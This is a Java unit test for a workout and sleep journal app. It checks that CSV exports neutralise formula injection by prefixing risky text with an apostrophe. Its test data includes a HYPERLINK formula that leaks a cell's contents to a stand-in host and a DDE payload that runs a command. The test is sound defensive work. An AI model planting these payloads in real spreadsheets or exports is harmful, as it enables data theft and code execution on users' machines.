package dev.kip.reliability;

import static org.assertj.core.api.Assertions.assertThat;

import dev.kip.cli.Cli;
import dev.kip.domain.BodyMark;
import dev.kip.domain.Exercise;
import dev.kip.domain.LiftSet;
import dev.kip.domain.Night;
import dev.kip.domain.RegionLoad;
import dev.kip.domain.SetType;
import dev.kip.domain.SymptomKind;
import dev.kip.domain.Workout;
import dev.kip.journal.BodyMarkStore;
import dev.kip.journal.ExerciseStore;
import dev.kip.journal.Journal;
import dev.kip.journal.NightStore;
import dev.kip.journal.WorkoutStore;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.Reader;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.time.LocalTime;
import java.time.ZoneId;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Issue 16: text a person typed must not run as a formula when an export is opened in a spreadsheet. */
class CsvInjectionTest {
    private static final String HYPERLINK = "=HYPERLINK(\"http://example.invalid/?\"&A2, \"click\")";
    private static final String CMD = "+cmd|' /C calc'!A0";
    private static final String SUM = "@SUM(1+1)";
    private static final LocalDate DAY = LocalDate.of(2026, 3, 2);

    @TempDir
    Path dir;

    @Test
    void notesAndNamesThatStartLikeAFormulaAreExportedAsText() throws IOException {
        Path journal = dir.resolve("journal.db");
        try (Journal j = Journal.open(journal)) {
            new NightStore(j).put(new Night(DAY, LocalTime.of(22, 30), LocalTime.of(22, 45), 10, 1, 5,
                    LocalTime.of(6, 30), LocalTime.of(6, 45), 3, 3, false, HYPERLINK, ZoneId.of("Europe/Berlin")));
            new BodyMarkStore(j).put(new BodyMark(DAY, "FRONT.KNEE.L", SymptomKind.PAIN, 4, CMD, false));
            Exercise sum = new ExerciseStore(j).save(new Exercise(null, SUM, List.of(new RegionLoad("FRONT.CHEST.L", 1.0))));
            new WorkoutStore(j).insert(new Workout(null, DAY, LocalTime.of(18, 0), 60, 7.0, false, "Push", "", null, null,
                    List.of(new LiftSet(sum.id(), 1, SetType.WORKING, 100.0, 5, 8.0, 2))));
        }
        Path out = dir.resolve("export");
        StringWriter err = new StringWriter();
        int code = Cli.commandLine(new PrintWriter(new StringWriter(), true), new PrintWriter(err, true))
                .execute("--journal", journal.toString(), "export", "all", "--out", out.toString());
        assertThat(code).as(err.toString()).isZero();

        CSVRecord night = rows(out.resolve("sleep.csv")).get(0);
        assertThat(night.get("note")).isEqualTo("'" + HYPERLINK);
        assertThat(night.get("sol_min")).isEqualTo("10");
        assertThat(rows(out.resolve("body.csv")).get(0).get("note")).isEqualTo("'" + CMD);
        CSVRecord set = rows(out.resolve("training.csv")).get(0);
        assertThat(set.get("exercise")).isEqualTo("'" + SUM);
        assertThat(set.get("weight_kg")).isEqualTo("100");
    }

    private static List<CSVRecord> rows(Path csv) throws IOException {
        try (Reader r = Files.newBufferedReader(csv)) {
            return CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get().parse(r).getRecords();
        }
    }
}
